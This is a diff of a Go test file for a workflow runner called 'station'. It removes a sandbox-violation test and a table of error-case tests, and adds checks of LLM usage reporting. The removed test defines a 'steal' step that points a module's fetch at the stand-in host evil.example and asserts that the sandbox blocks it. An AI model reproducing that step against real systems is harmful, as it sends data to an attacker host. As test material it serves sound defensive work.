@@ -150,84 +150,20 @@ func TestWorkflowRunCheckRunsShow(t *testing.T) {
 	if len(lines) != 8 { // run_started, 3 × (started, succeeded), run_finished
 		t.Errorf("got %d events, want 8:\n%s", len(lines), r.out)
 	}
-}
 
-// A step's sandbox violation fails the run with exit code 3 and the same
-// message station run gives; resume reuses the finished step, and refuses a
-// changed file.
-func TestWorkflowViolationAndResume(t *testing.T) {
-	h := newWFHome(t)
-	src := `steps:
-  - id: greeting
-    uses: station/hello greet
-    with: {name: Ada}
-  - id: steal
-    uses: dave/stripe-invoicing fetch
-    needs: greeting
-    with: {url: "https://evil.example/steal"}
-`
-	file := h.file(t, "steal.yaml", src)
-	r := stationEnv(t, h.env, "workflow", "run", file).want(t, cli.ExitViolation)
-	direct := stationEnv(t, h.env, "run", "dave/stripe-invoicing", "fetch", "--input", `{"url":"https://evil.example/steal"}`).want(t, cli.ExitViolation)
-	want := strings.TrimPrefix(strings.TrimSpace(direct.err), "station: ")
-	if !strings.Contains(r.err, "station: workflow steal: step steal: "+want) {
-		t.Errorf("workflow error:\n%s\nwant it to end with the error of station run:\n%s", r.err, want)
+	// The llm steps were the station's own spending: (station), one call
+	// per run.
+	r = stationEnv(t, h.env, "llm", "usage", "--json").want(t, 0)
+	var rows []struct {
+		Module           string `json:"module"`
+		Calls            int64  `json:"calls"`
+		CompletionTokens int64  `json:"completion_tokens"`
 	}
-	if h.evil.Accepted() != 0 {
-		t.Errorf("evil.example accepted %d connections", h.evil.Accepted())
+	if err := json.Unmarshal([]byte(r.out), &rows); err != nil || len(rows) != 1 || rows[0].Module != "(station)" || rows[0].Calls != 2 || rows[0].CompletionTokens == 0 {
+		t.Errorf("llm usage --json = %s (%v)", r.out, err)
 	}
-	r = stationEnv(t, h.env, "workflow", "show", "1").want(t, 0)
-	if !strings.Contains(r.out, `DENY  dave/stripe-invoicing network evil.example:443 is not in its allowlist`) {
-		t.Errorf("show does not list the denial:\n%s", r.out)
-	}
-
-	r = stationEnv(t, h.env, "workflow", "resume", "1").want(t, cli.ExitViolation)
-	if !strings.Contains(r.err, "reused    greeting") || !strings.Contains(r.err, "started   steal (dave/stripe-invoicing fetch, attempt 2)") {
-		t.Errorf("resume progress:\n%s", r.err)
-	}
-	h.file(t, "steal.yaml", src+"# edited\n")
-	r = stationEnv(t, h.env, "workflow", "resume", "1").want(t, cli.ExitError)
-	if !strings.Contains(r.err, "changed since the run started") {
-		t.Errorf("resume of a changed file: %s", r.err)
-	}
-}
-
-func TestWorkflowErrors(t *testing.T) {
-	h := newWFHome(t)
-	missing := h.file(t, "missing.yaml", "steps:\n  - {id: a, uses: nobody/none run}\n  - {id: b, uses: station/hello wave}\n")
-	bad := h.file(t, "bad.yaml", "steps:\n  - id: a\n    uses: station/hello greet\n    timout: 1s\n")
-	noLLM := map[string]string{}
-	for k, v := range h.env {
-		noLLM[k] = v
-	}
-	delete(noLLM, "STATION_LLM_BASE_URL")
-	llmFile := h.file(t, "llm.yaml", "steps:\n  - {id: a, uses: llm, with: {prompt: hi}}\n")
-	cases := []struct {
-		name string
-		env  map[string]string
-		args []string
-		code int
-		want []string
-	}{
-		{"missing module and command", h.env, []string{"workflow", "check", missing}, cli.ExitError,
-			[]string{"nobody/none — NOT INSTALLED", "module nobody/none is not installed", `module station/hello has no command "wave" (its commands: [greet])`}},
-		{"run refuses what check refuses", h.env, []string{"workflow", "run", missing}, cli.ExitError, []string{"the workflow cannot run", "nobody/none is not installed"}},
-		{"strict file", h.env, []string{"workflow", "check", bad}, cli.ExitError, []string{bad + `:4:5: steps[0]: unknown field "timout"`}},
-		{"no llm provider", noLLM, []string{"workflow", "check", llmFile}, cli.ExitError, []string{"llm (steps a): the station's own provider, NONE CONFIGURED", "no provider is configured: set llm.provider or llm.base_url"}},
-		{"no file", h.env, []string{"workflow", "run"}, cli.ExitUsage, []string{"needs 1 argument(s): FILE"}},
-		{"bad input pair", h.env, []string{"workflow", "run", llmFile, "--input", "x"}, cli.ExitUsage, []string{`--input "x": write NAME=VALUE`}},
-		{"undeclared input", h.env, []string{"workflow", "run", llmFile, "--input", "x=1"}, cli.ExitError, []string{`has no input "x"`}},
-		{"bad run id", h.env, []string{"workflow", "show", "abc"}, cli.ExitUsage, []string{`"abc" is not a run id`}},
-		{"unknown run", h.env, []string{"workflow", "show", "42"}, cli.ExitError, []string{"workflow run 42: not found"}},
-	}
-	for _, c := range cases {
-		t.Run(c.name, func(t *testing.T) {
-			r := stationEnv(t, c.env, c.args...).want(t, c.code)
-			for _, w := range c.want {
-				if !strings.Contains(r.out+r.err, w) {
-					t.Errorf("output does not contain %q:\n%s%s", w, r.out, r.err)
-				}
-			}
-		})
+	r = stationEnv(t, h.env, "llm", "usage").want(t, 0)
+	if !strings.Contains(r.out, "MODULE") || !strings.Contains(r.out, "(station)") {
+		t.Errorf("llm usage:\n%s", r.out)
 	}
 }
